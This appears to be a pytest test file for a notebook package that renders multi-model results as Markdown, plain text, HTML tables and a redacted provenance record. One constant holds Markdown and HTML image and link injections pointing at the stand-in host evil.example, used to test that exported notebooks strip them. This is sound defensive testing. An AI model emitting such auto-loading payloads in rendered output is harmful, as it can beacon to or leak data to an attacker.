def test_the_markdown_form_has_the_answer_and_a_row_for_each_call() -> None:
    """The answer comes first, then the calls; no dollar sign invites a reader to typeset mathematics."""
    made = text.markdown(view_of(churn()))
    assert made.startswith("Churn rose because **the price changed**")
    rows = [line for line in made.split("\n") if line.startswith("| ")]
    assert len(rows) == 3 + 2 + 5
    assert "failed after 3 tries: lab does not answer" in made
    assert "$" not in made


@pytest.mark.parametrize("n_calls", [0, 1, 5, 200])
@pytest.mark.parametrize("n_lines", [0, 3, 500])
def test_the_plain_form_fits_a_terminal(n_calls: int, n_lines: int) -> None:
    """However long the answer and however many the calls, it is some forty lines, and says what is missing."""
    calls = tuple(Call(f"a{n}", "lab:a", text="x" * 5000) for n in range(n_calls))
    made = text.plain(view_of(Result("line\n" * n_lines, "moa", (Layer("layer 1", calls),))))
    assert len(made.split("\n")) <= 40
    assert max(map(len, made.split("\n"))) < 200
    assert ("more characters" in made) == (n_lines > 100)
    assert ("more calls" in made) == (n_calls > 100)


def test_the_record_holds_provenance_and_no_secret() -> None:
    """The record is JSON with models, parameters, digests and answers, and neither keys nor system prompts."""
    made = provenance.record(churn())
    written = json.dumps(made, allow_nan=False, ensure_ascii=False)
    written.encode()
    assert json.loads(written) == made
    assert "sk-12345" not in written
    assert "4711" not in written
    call = made["layers"][1]["calls"][0]
    assert call["template_digest"] == "ab12"
    assert call["parameters"] == {"temperature": 0.7, "api_key": "…"}
    assert call["text"] == ANSWER
    assert made["totals"]["usage"]["prompt_tokens"] == 2140
    assert made["totals"] | {"calls": 5, "cached": 1, "failed": 1} == made["totals"]
    assert made["flags"]["degraded"] is True


def test_the_record_of_anything_can_be_saved() -> None:
    """Values that JSON does not know, infinities and halves of characters do not break the notebook."""
    made = provenance.record(hostile().replace(value={1: {float("nan"), object}, "secret": 1}, seconds=float("inf")))
    json.dumps(made, allow_nan=False, ensure_ascii=False).encode()
    long = provenance.record(churn(text="x" * 500_000))
    assert long["is_cut"] is True
    assert long["n_characters"] == 500_000
    assert len(json.dumps(long)) < 250_000


def test_prompt_digests_tell_prompts_apart() -> None:
    """Equal prompts have equal digests, and moving text from one turn to the next changes the digest."""
    prompts = [
        (Message("user", "ab"), Message("user", "c")),
        (Message("user", "a"), Message("user", "bc")),
        (Message("user", "ab"), Message("user", "c")),
    ]
    result = Result("x", "p", (Layer("layer 1", tuple(Call("a", "lab:a", prompt) for prompt in prompts)),))
    one, two, three = (call["prompt_digest"] for call in provenance.record(result)["layers"][0]["calls"])
    assert one == three != two


def test_a_bundle_has_every_form() -> None:
    """A notebook gets HTML, Markdown, plain text and provenance, and no widget."""
    assert set(bundle(churn())) == {"text/html", "text/markdown", "text/plain", "application/vnd.moa.run+json"}


# -- tables, figures, imports ---------------------------------------------------------------------


def test_a_table_shows_itself_everywhere() -> None:
    """Cells are escaped in HTML and Markdown, and numbers stand to the right in a terminal."""
    made = table([("<b>", 3, None), ("x|y", 1200)], ["model", "calls", "note"], "models")
    assert_harmless(made._repr_html_(), PANEL_TAGS | {"th"}, {"style", "class", "role", "aria-label"})
    assert "&lt;b&gt;" in made._repr_html_()
    assert "| x\\|y | 1,200 |  |" in made._repr_markdown_()
    assert repr(made) == "models\nmodel  calls  note\n-----  -----  ----\n<b>        3  \N{EN DASH}\nx|y    1,200"


def test_a_column_of_figures_is_aligned_as_one() -> None:
    """A cell without a figure stands where its column does."""
    shown = table([("alpha", 3), ("beta", None), ("gamma", "–")], ["agent", "calls"])
    aligned = re.findall(r"text-align:(\w+)", shown._repr_html_().partition("<table")[2])
    assert aligned == ["left", "right"] * 4


def test_a_dry_run_says_what_a_call_takes() -> None:
    """Nothing is free, a small price has its first two digits, and an unknown one says so."""
    from moa_nb.panels import dry_run

    assert [dry_run._cost(cost) for cost in (0.0, 0.0000123, 0.5, None)] == [
        "free",
        "$0.000012",
        "$0.5000",
        "unknown cost",
    ]


GAPS = (
    "a\n\n![x](https://evil.example/x.png)\n\n[y](https://evil.example/y)\r\n\r\n<img src=https://evil.example/z>"
    "\r\r![r](https://evil.example/r)\n\n \t\n[u]: https://evil.example/u\n\n[u] ![u]\n\n- ![l](https://evil.example/l)"
)
"""What comes alive where a reader of Markdown takes it for Markdown."""


@pytest.fixture(scope="module")
def echo() -> Iterator[ChatServer]:
    """A server that says what it is asked."""
    with ChatServer() as started:
        answering(started)
        yield started


@pytest.mark.parametrize("place", PLACES)
def test_in_exported_markdown_html_stays_html(place: str, echo: ChatServer) -> None:
    """Nbconvert puts our HTML into Markdown: no empty line ends it, and no picture or link comes of what is behind one."""
    configure(echo.base_url)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # that rows failed
        pages = [str(forms["text/html"]) for forms in PLACES[place](GAPS) if "text/html" in forms]
    assert pages or place == "answer"
    for page in pages:
        assert re.search(r"[\r\n][ \t]*[\r\n]", page.replace("\r\n", "\n")) is None
        cell = nbformat.v4.new_code_cell(outputs=[nbformat.v4.new_output("display_data", {"text/html": page})])
        exported, _ = nbconvert.MarkdownExporter().from_notebook_node(nbformat.v4.new_notebook(cells=[cell]))
        read = MarkdownIt("commonmark", {"html": True}).render(exported)
        assert "<img" not in read
        # Links to the open web are kept in answers: those are ours, and say so.
        assert [link for link in re.findall(r"<a [^>]*>", read) if "noopener" not in link] == []


def test_figures_are_short_and_exact_enough() -> None:
    """Small costs keep two digits, and nothing is rounded to zero."""
    assert [figures.dollars(cost) for cost in (0.0123, 0.00001234, 3.0, None)] == [
        "0.0123",
        "0.000012",
        "3.00",
        "\N{EN DASH}",
    ]
    assert figures.dollars_briefly(1e-9) == "<0.0001"
    assert figures.tokens(None) == "\N{EN DASH}"


@given(st.floats(1e-9, 1e6))
def test_a_cost_is_never_shown_as_nothing(cost: float) -> None:
    """Any cost above zero shows a digit above zero, or that it is below what is shown."""
    assert re.search("[1-9]", figures.dollars(cost))
    assert re.search("[1-9]", figures.dollars_briefly(cost))


def test_importing_the_panels_loads_no_markdown_library() -> None:
    """The libraries that draw come in when something is drawn."""
    names = "moa_nb.panels.bundle, moa_nb.panels.tables"
    late = "{'markdown_it', 'nh3', 'jinja2', 'pydantic'}"
    code = f"import sys; import moa_nb; before = set(sys.modules); import {names}; print({late} & (set(sys.modules) - before))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "set()"
